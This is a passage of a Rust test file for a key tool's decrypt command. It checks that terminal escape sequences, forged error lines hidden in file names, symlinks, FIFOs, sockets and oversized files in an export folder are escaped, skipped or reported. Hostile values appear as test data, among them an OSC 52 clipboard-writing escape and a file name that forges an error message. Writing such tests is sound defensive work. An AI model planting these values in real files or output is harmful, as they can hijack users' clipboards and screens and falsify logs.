    for format in ["csv", "json", "jsonl"] {
        let args = ["decrypt", "-i", "key1.txt", "--format", format, "export"];
        let Some((code, shown)) = run_on_terminal(dir.path(), &args, "") else {
            return;
        };
        assert_eq!(code, 1, "{shown}");
        assert_nothing_acts_on_the_terminal(&shown);
        for (name, _, in_csv, in_json) in TERMINAL_ATTACKS {
            let expected = if format == "csv" { in_csv } else { in_json };
            assert!(shown.contains(expected), "{format}: {expected}\n{shown}");
            if format == "csv" {
                let name = name.replace('\x07', "\\u{7}");
                assert!(shown.contains(&name), "{format}: {name}\n{shown}");
            }
        }
        assert!(
            shown.contains(
                "error: could not open export/\\u{1b}]52;c;ZXZpbA==\\u{7}\\u{1b}[2J.age: this is not an age file"
            ),
            "{format}: {shown}"
        );
    }
}

/// To a pipe (or a file), the export keeps the exact answers: CSV quotes them, JSON escapes them
/// the way JSON does, and both read back exactly what was typed.
#[test]
fn decrypt_to_a_pipe_keeps_the_exact_answers() {
    let dir = tmp();
    with_key_1(dir.path());
    with_terminal_attacks(dir.path());
    let record = format!("{ID_A}.age");
    let decrypt = |format: &str| {
        let out = run(
            dir.path(),
            &mut keytool(
                dir.path(),
                &["decrypt", "-i", "key1.txt", "--format", format, &record],
            ),
        );
        assert_eq!((out.code, out.stderr.as_str()), (0, ""));
        out.stdout
    };

    let csv = decrypt("csv");
    assert!(csv.contains("\x1b]52;c;"), "the exact bytes: {csv:?}");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    for (index, (name, answer, _, _)) in TERMINAL_ATTACKS.iter().enumerate() {
        assert_eq!(&headers[index + 4], *name);
        assert_eq!(&row[index + 4], *answer);
    }

    for format in ["json", "jsonl"] {
        let json = decrypt(format);
        assert_nothing_acts_on_the_terminal(&json);
        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
        let fields = if format == "json" {
            &parsed[0]["fields"]
        } else {
            &parsed["fields"]
        };
        for (name, answer, _, _) in TERMINAL_ATTACKS {
            assert_eq!(fields[name], answer, "{format}: {name}");
        }
    }
}

/// File names come from whoever made the folder: every error line shows them escaped, on one
/// line, whether or not standard error is a terminal.
#[cfg(unix)]
#[test]
fn decrypt_shows_hostile_file_names_escaped_in_error_lines() {
    let dir = tmp();
    with_key_1(dir.path());
    let export = dir.path().join("export");
    fs::create_dir(&export).unwrap();
    with_records_a_b(&export);
    fs::remove_file(export.join(format!("{ID_B}.age"))).unwrap();
    write(&export.join("\x1b]52;c;ZXZpbA==\x07.age"), "not a record");
    write(
        &export.join("forged\nerror: every record was exported.age"),
        "not a record",
    );
    std::os::unix::fs::symlink(
        format!("{ID_A}.age"),
        export.join("\x1b[2J\u{202e}\u{9b}8m.age"),
    )
    .unwrap();

    let out = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["decrypt", "-i", "key1.txt", "--format", "jsonl", "export"],
        ),
    );
    assert_eq!(
        out,
        Run {
            code: 1,
            stdout: format!("{JSON_A}\n"),
            stderr: "error: skipped export/\\u{1b}[2J\\u{202e}\\u{9b}8m.age: it is a symbolic link, not a regular file\n\
                     the key tool does not follow links, which can lead anywhere: if you trust what it points to, put a copy in its place\n\
                     error: could not open export/\\u{1b}]52;c;ZXZpbA==\\u{7}.age: this is not an age file, or its header is damaged\n\
                     error: could not open export/forged\\u{a}error: every record was exported.age: this is not an age file, or its header is damaged\n\
                     error: exported 1 of 3 records; see the 3 errors above\n"
                .into(),
        }
    );
}

/// An export folder that attacks the key tool: an index linked to /dev/zero (endless), a FIFO
/// (blocks its reader), a link to a record outside the folder, a file larger than any record,
/// a socket and a folder named like records. Only the one good record is exported; each of the
/// others is reported; the run ends quickly, with exit code 1.
#[cfg(unix)]
#[test]
fn decrypt_reads_only_regular_files_of_bounded_size_and_never_hangs() {
    use std::os::unix::fs::symlink;
    const LIMIT: std::time::Duration = std::time::Duration::from_secs(60);

    let dir = tmp();
    with_key_1(dir.path());
    let outside = dir.path().join("outside");
    fs::create_dir(&outside).unwrap();
    with_records_a_b(&outside);
    let export = dir.path().join("export");
    fs::create_dir(&export).unwrap();
    fs::rename(
        outside.join(format!("{ID_A}.age")),
        export.join(format!("{ID_A}.age")),
    )
    .unwrap();
    symlink("/dev/zero", export.join("index.tsv")).unwrap();
    let fifo = export.join("x.age");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    symlink(format!("../outside/{ID_B}.age"), export.join("y.age")).unwrap();
    // Sparse: larger than any record, yet taking no room on disk.
    fs::File::create(export.join("z.age"))
        .unwrap()
        .set_len(5 * 1024 * 1024)
        .unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(export.join("s.age")).unwrap();
    fs::create_dir(export.join("w.age")).unwrap();

    const LINK: &str = "it is a symbolic link, not a regular file\n\
        the key tool does not follow links, which can lead anywhere: if you trust what it points to, put a copy in its place\n";
    const ODD: &str = "an export from the server holds only regular files: find out what put it there before trusting the folder\n";
    const TOO_LARGE: &str = "it is larger than 4 MiB, far more than any record sealform writes\n\
        it was left unread: check where the folder came from\n";

    let decrypt_jsonl = |folder: &str| {
        run_bounded(
            dir.path(),
            &["decrypt", "-i", "key1.txt", "--format", "jsonl", folder],
            LIMIT,
        )
    };
    let folder = decrypt_jsonl("export");
    assert_eq!(
        folder,
        Run {
            code: 1,
            stdout: format!("{JSON_A}\n"),
            stderr: format!(
                "error: skipped export/s.age: it is a socket, not a regular file\n{ODD}\
                 error: skipped export/w.age: it is a folder, not a regular file\n\
                 folders inside a folder are not searched: if it holds records, pass it as an input of its own\n\
                 error: skipped export/x.age: it is a FIFO (named pipe), not a regular file\n{ODD}\
                 error: skipped export/y.age: {LINK}\
                 error: skipped export/index.tsv: {LINK}\
                 error: skipped export/z.age: {TOO_LARGE}\
                 error: exported 1 of 2 records; see the 6 errors above\n"
            ),
        }
    );

    // The same files named one by one, as `export/*.age` in a shell names them.
    let good = format!("export/{ID_A}.age");
    let named = run_bounded(
        dir.path(),
        &[
            "decrypt",
            "-i",
            "key1.txt",
            "--format",
            "jsonl",
            "export/x.age",
            "export/y.age",
            "export/z.age",
            &good,
        ],
        LIMIT,
    );
    assert_eq!(
        named,
        Run {
            code: 1,
            stdout: format!("{JSON_A}\n"),
            stderr: format!(
                "error: skipped export/x.age: it is a FIFO (named pipe), not a regular file\n{ODD}\
                 error: skipped export/y.age: {LINK}\
                 error: skipped export/z.age: {TOO_LARGE}\
                 error: exported 1 of 2 records; see the 3 errors above\n"
            ),
        }
    );

    // A folder of its own holding record A, beside an index made for the case.
    let with_record_a = |name: &str| {
        let folder = dir.path().join(name);
        fs::create_dir(&folder).unwrap();
        fs::copy(
            export.join(format!("{ID_A}.age")),
            folder.join(format!("{ID_A}.age")),
        )
        .unwrap();
        folder
    };

    // An index that is a FIFO is reported; the records still open.
    let folder = with_record_a("fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(folder.join("index.tsv"))
            .status()
            .unwrap()
            .success()
    );
    assert_eq!(
        decrypt_jsonl("fifo"),
        Run {
            code: 1,
            stdout: format!("{JSON_A}\n"),
            stderr: format!(
                "error: skipped fifo/index.tsv: it is a FIFO (named pipe), not a regular file\n{ODD}\
                 error: exported 1 of 1 records; see the error above\n"
            ),
        }
    );

    // An index is read a line at a time, whatever its size; one whose first line is 64 MiB
    // of zeros is read without holding that line, and refused as no index.
    let folder = with_record_a("large");
    fs::File::create(folder.join("index.tsv"))
        .unwrap()
        .set_len(64 * 1024 * 1024 + 1)
        .unwrap();
    assert_eq!(
        decrypt_jsonl("large"),
        Run {
            code: 1,
            stdout: String::new(),
            stderr: "error: large/index.tsv is not a valid export index: line 1 of the export \
                     index is not `<record id> <tab> <recipient set>`\n\
                     export the records from the server again, or remove the index to go on \
                     without it\n"
                .to_owned(),
        }
    );
}
